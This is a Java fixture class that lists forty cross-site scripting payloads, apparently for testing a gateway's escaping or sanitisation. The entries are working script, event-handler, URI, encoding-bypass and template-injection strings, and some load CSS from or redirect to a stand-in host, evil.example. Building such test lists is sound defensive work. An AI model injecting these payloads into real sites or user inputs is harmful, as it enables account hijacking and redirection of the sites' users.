package dev.switchboard.gateway;

import java.util.List;
import java.util.stream.Stream;

/** Forty texts that run as code wherever text is taken for HTML, for an attribute, for a script or for a template. */
public final class XssStrings {
    private static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "\"><script>alert(1)</script>",
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "\" autofocus onfocus=alert(1) x=\"",
            "` onmouseover=alert(1) `",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
            "<form><button formaction=javascript:alert(1)>x",
            "<object data=javascript:alert(1)>",
            "<embed src=javascript:alert(1)>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css';</style>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<base href=//evil.example/>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<x contenteditable onblur=alert(1)>x",
            "<img src=x:x onerror\n=alert(1)>",
            "<IMG SRC=x OnErRoR=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}",
            "{{user}}{{asset:soporte.js}}",
            "\u202E<img src=x onerror=alert(1)>\u202C");

    private XssStrings() {}

    public static Stream<String> all() {
        return ALL.stream();
    }
}
